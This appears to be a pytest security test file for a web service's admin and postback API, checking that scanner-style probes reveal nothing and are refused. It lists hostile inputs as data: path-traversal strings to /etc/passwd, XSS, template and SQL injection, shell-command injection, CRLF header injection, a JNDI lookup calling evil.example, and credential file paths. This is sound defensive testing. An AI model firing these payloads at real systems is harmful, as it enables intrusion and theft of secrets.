"""What the usual scanners look for (Nikto's lists and ZAP's passive rules, put shortly): files that lie about, methods, headers, redirects,
echoes. `./dev scan` runs it together with schemathesis at length."""
import json
import re
import socket
import urllib.parse

import pytest

from documents import text_of
from harness import Server, concrete, new_id, send_raw

PASSWORD = "correct horse battery"
TABLE = re.findall(r'^    \{"(/[^"]*)",\s+"([A-Z]+)",\s+Access::k(\w+),', text_of("src/api/router.cc"), re.M)
FILES = """.git/HEAD .git/config .svn/entries .hg/hgrc .env .env.production .htaccess .htpasswd .DS_Store .aws/credentials .ssh/id_rsa .npmrc
    backup.zip backup.tar.gz dump.sql db.sqlite barracuda.toml config.json config.php web.config wp-login.php wp-admin/ xmlrpc.php phpinfo.php
    info.php test.php index.php shell.php server-status server-info nginx_status cgi-bin/test.cgi cgi-bin/bash actuator/env actuator/heapdump
    debug/pprof/ debug/vars console manager/html jmx-console solr/ swagger.json swagger-ui/ openapi.json openapi.yaml api-docs graphql
    graphiql trace.axd elmah.axd crossdomain.xml clientaccesspolicy.xml package.json composer.json Dockerfile docker-compose.yml id_rsa
    setup-link control.sock CURRENT LOCK MANIFEST-000001 logs/CURRENT secrets/ core sitemap.xml .well-known/security.txt~""".split()
CLIMBS = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd",
          "..%252f..%252fetc/passwd", "..%c0%af..%c0%afetc/passwd", "..\\..\\..\\etc\\passwd", "assets/../../../etc/passwd", "%2fetc%2fpasswd",
          "assets/..%2f..%2f..%2fsetup-link", "index.html%00.js", "file:///etc/passwd"]
LEAKS = re.compile(rb"root:.*:0:0|BEGIN [A-Z ]*PRIVATE KEY|Traceback|stack trace|src/\w+/\w+\.cc|\[core\]|boost::|std::")


@pytest.fixture(scope="module")
def site(net, tmp_path_factory):
    with Server(tmp_path_factory.mktemp("scan"), net, ingest="key", env={"BARRACUDA_LIMITS_FORMS_PER_MINUTE": "0"}) as server:
        server.command("admin", "create", "--email", "o@example.com", "--name", "O", "--password-stdin", stdin=PASSWORD + "\n")
        login = server.post("/api/admin/auth/login", {"email": "o@example.com", "password": PASSWORD})
        server.token = login.data["token"]
        yield server


def raw(method, target, **headers):
    lines = {"Host": "127.0.0.1", "Connection": "close", "Content-Length": "0", **{k.replace("_", "-"): v for k, v in headers.items()}}
    return f"{method} {target} HTTP/1.1\r\n".encode() + "".join(f"{k}: {v}\r\n" for k, v in lines.items()).encode("latin1") + b"\r\n"


def the_desk(site):
    return site.get("/admin").body


# ---------------------------------------------------------------------------------------------- what lies about

@pytest.mark.parametrize("below", ["/", "/admin/", "/api/", "/admin/assets/"])
def test_what_scanners_ask_for_is_not_there(site, below):
    """404, or on the desk's own paths the desk's page, whatever the name; nothing of the machine, of the store or of the program."""
    desk = the_desk(site)
    for name in FILES + CLIMBS:
        answer = send_raw(site.port, raw("GET", below + name))
        assert answer.status in (400, 401, 404) or (answer.status == 200 and answer.body == desk and below == "/admin/"), (name, answer)
        assert not LEAKS.search(answer.body), (name, answer)
        assert answer.body == desk or answer.json["success"] is False, (name, answer)
    for folder in (below, below.rstrip("/") + "//", below + "?C=M;O=A", below + "?/"):
        assert b"Index of" not in send_raw(site.port, raw("GET", folder)).body


def test_control_a_leak_is_seen():
    for text in (b"root:x:0:0:root:/root:/bin/bash", b"-----BEGIN RSA PRIVATE KEY-----", b"at src/api/ftd.cc:12", b"[core]\n\trepositoryformatversion"):
        assert LEAKS.search(text), text


# ------------------------------------------------------------------------------------------------------- methods

@pytest.mark.parametrize("method", ["TRACE", "TRACK", "DEBUG", "PROPFIND", "MKCOL", "COPY", "MOVE", "LOCK", "SEARCH", "PURGE", "PUT", "DELETE", "PATCH"])
@pytest.mark.parametrize("path", ["/", "/livez", "/admin", "/api/ftd", "/api/admin/conversions", "/new.txt"])
def test_methods_that_scanners_try(site, method, path):
    answer = send_raw(site.port, raw(method, path, X_Canary="echo-this-back", Cookie="barracuda_session=echo-this-back"))
    assert answer.status in (401, 404, 405), answer
    assert b"echo-this-back" not in answer.body and "echo-this-back" not in str(answer.headers)
    if answer.status == 405:
        assert method not in re.split(r",\s*", answer.headers["Allow"])


def test_an_override_overrides_nothing(site):
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        answer = site.request("GET", "/livez", headers={name: "DELETE"})
        assert answer.status == 200, answer
    click = new_id()
    path = f"/api/postback?click_id={click}&affiliate_id=7&goal=deposit"
    assert site.request("HEAD", path, headers={"X-HTTP-Method-Override": "GET"}, key=site.admin_key).status == 200
    assert not site.of_click(click), "a HEAD records nothing, whatever it calls itself"


# ------------------------------------------------------------------------------------------------------- headers

def judged(answer, path):
    """-> what an answer lacks of what every answer has to have."""
    fields, out = {name.lower(): value for name, value in answer.headers.items()}, []
    policy = [part.strip() for part in fields.get("content-security-policy", "").split(";")]
    if not {"default-src 'none'", "frame-ancestors 'none'"} <= set(policy) and "sandbox" not in policy:
        out.append("a policy")
    if "base-uri 'none'" not in policy and "sandbox" not in policy:
        out.append("base-uri")
    if "unsafe-inline" in str(policy) or "unsafe-eval" in str(policy) or "*" in str(policy):
        out.append("a strict policy")
    if fields.get("x-content-type-options") != "nosniff":
        out.append("nosniff")
    kind = fields.get("content-type", "")
    if answer.body and not kind:
        out.append("a type")
    if kind.startswith("text/") and "charset=utf-8" not in kind:
        out.append("a charset")
    if kind.startswith(("application/json", "text/csv")) and fields.get("cache-control") != "no-store":
        out.append("no-store")
    if kind.startswith("text/html"):
        out += [name for name in ("referrer-policy", "x-frame-options", "cross-origin-opener-policy") if name not in fields]
    out += [name for name in ("server", "x-powered-by", "via", "x-aspnet-version") if name in fields]
    if path.startswith("/api/admin/") and "access-control-allow-origin" in fields:
        out.append("no CORS")
    return out


def test_every_answer_has_its_headers(site):
    """Every route of the table, as a stranger and as an owner; the pages; refusals of each layer."""
    asked = [(method, concrete(path)) for path, method, _ in TABLE]
    asked += [("GET", path) for path in ("/admin", "/admin/conversions", "/admin/none.js", "/nowhere", "/thanks", "/landing.css")]
    assert len(asked) > 100
    lacking = {}
    for method, path in asked:
        for key in (None, site.token):
            answer = site.request(method, path, key=key, headers={"Origin": "https://evil.example"} if key is None else None)
            if lack := judged(answer, path):
                lacking[method, path, bool(key), answer.status] = lack
            if path == "/api/admin/auth/logout" and key:  # it ended our own
                site.token = site.post("/api/admin/auth/login", {"email": "o@example.com", "password": PASSWORD}).data["token"]
    for data in (b"GET / HTTP/9.9\r\n\r\n", b"\x16\x03\x01", b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n"):
        if lack := judged(send_raw(site.port, data), ""):
            lacking[data[:20]] = lack
    assert not lacking


def test_control_a_header_that_is_missing_is_seen(site):
    class Bare:
        body, headers = b"x", {"Content-Type": "text/html", "Server": "x/1.0"}

    assert set(judged(Bare, "/")) >= {"a policy", "base-uri", "nosniff", "a charset", "referrer-policy", "server"}
    good = site.get("/admin")
    assert judged(good, "/admin") == []
    good.headers.replace_header("Content-Security-Policy", "default-src *")
    assert {"a policy", "a strict policy"} <= set(judged(good, "/admin"))


# ------------------------------------------------------------------------------------------- redirects and echoes

@pytest.mark.parametrize("path", ["/", "//evil.example", "//evil.example/%2f..", "/\\evil.example", "/admin//evil.example", "/thanks?next=//evil.example",
                                  "/?url=https://evil.example&redirect=https://evil.example&returnTo=//evil.example", "/setup?token=x&next=//evil.example"])
def test_nobody_is_sent_elsewhere(site, path):
    for headers in ({}, {"Host": "evil.example"}, {"X_Forwarded_Host": "evil.example", "Forwarded": "host=evil.example"}, {"Accept": "text/html"}):
        answer = send_raw(site.port, raw("GET", path, **headers))
        location = answer.headers.get("Location", "/")
        assert re.match(r"/(?![/\\])", location) and "evil" not in urllib.parse.urlsplit(location).netloc, (headers, answer.headers)
        if "Host" not in headers:
            assert b'href="//evil' not in answer.body and b"https://evil.example/" not in answer.body


PROBES = ["'\"><script>alert(1)</script>", "{{7*7}}${7*7}#{7*7}", "${jndi:ldap://evil.example/a}", "1' OR '1'='1", "1;SELECT pg_sleep(9)--", "`sleep 9`", "$(sleep 9)",
          "|sleep 9|", "{\"$gt\":\"\"}", "[$ne]=1", "%0d%0aX-Injected:%20yes", "\r\nX-Injected: yes", "../../../../etc/passwd", "\x00", "%s%n%x", "A" * 2000]


@pytest.mark.parametrize("probe", PROBES, ids=lambda probe: repr(probe[:16]))
def test_probes_do_nothing(site, probe):
    """In every parameter of the lists and the forms: no fault of ours, no markup that runs, no field of their making."""
    for path in ("/api/admin/conversions", "/api/admin/contacts", "/api/admin/deliveries", "/api/admin/received", "/api/admin/reports", "/api/admin/search"):
        for name in ("search", "q", "click_id", "sortBy", "cursor", "group", "tz", "limit", "from", "status", probe):
            answer = site.admin("GET", path, query={name: probe})
            assert answer.status in (200, 400), (path, name, answer)
            assert answer.headers["Content-Type"].startswith("application/json") and "X-Injected" not in answer.headers
    for path in ("/", "/thanks"):
        page = site.request("GET", path, query={"type": probe, "click_id": probe, "sub1": probe}, headers={"Accept": "text/html"})
        assert page.status == 200 and b"<script" not in page.body, page
    form = site.request("POST", "/api/contact", form={"email": probe, "name": probe, "type": probe}, headers={"Accept": "text/html"})
    assert form.status == 400 and b"<script" not in form.body, form
    assert site.get("/livez").status == 200


def test_a_body_that_multiplies_is_refused(site):
    """A small body must not become much work: nests, many names, one name many times, numbers without end."""
    bodies = ["[" * 200_000, '{"a":' * 100_000, "{" + ",".join(f'"k{i}":1' for i in range(50_000)) + "}", "{" + ",".join(['"a":1'] * 50_000) + "}",
              '{"amount":' + "9" * 500_000 + "}", '{"amount":1e999999999}', '{"click_id":"' + "\\u0000" * 100_000 + '"}']
    for body in bodies:
        answer = site.request("POST", "/api/ftd", body=body, headers={"Content-Type": "application/json"}, key=site.admin_key)
        assert answer.status in (400, 413), (body[:30], answer)


# ------------------------------------------------------------------------------------------------------ passwords

def test_a_password_is_taken_as_it_is(site):
    """ASVS 6.2.8: not trimmed, not cut, not in another case or form."""
    for n, word in enumerate(("  blanks at both ends  ", "CaSe counts Here", "é composed, e\u0301 not", "x" * 1023 + "y", "tab\tand \u00a0 unseen\u200b")):
        email = f"p{n}@example.com"
        invited = site.post("/api/admin/admins", {"email": email, "name": "P", "role": "read_only"}, key=site.token).data["token"]
        assert site.post("/api/admin/auth/invitation", {"token": invited, "password": word}).status == 200, word

        def login(password):
            return site.post("/api/admin/auth/login", {"email": email, "password": password}).status

        assert login(word) == 200, word
        for other in {word.strip(), word.lower(), word.upper(), word[:-1], word[:72], word.replace("é", "e\u0301"), word + " "} - {word}:
            assert login(other) == 401, (word, other)


def test_a_slow_write_is_one_request(site):
    """What a scanner sends in bytes is answered once, whatever follows it."""
    with socket.create_connection(("127.0.0.1", site.port), 10) as s:
        for byte in raw("GET", "/livez"):
            s.sendall(bytes([byte]))
        got = b""
        while part := s.recv(4096):
            got += part
    assert got.count(b"HTTP/1.1 ") == 1 and json.loads(got.partition(b"\r\n\r\n")[2])
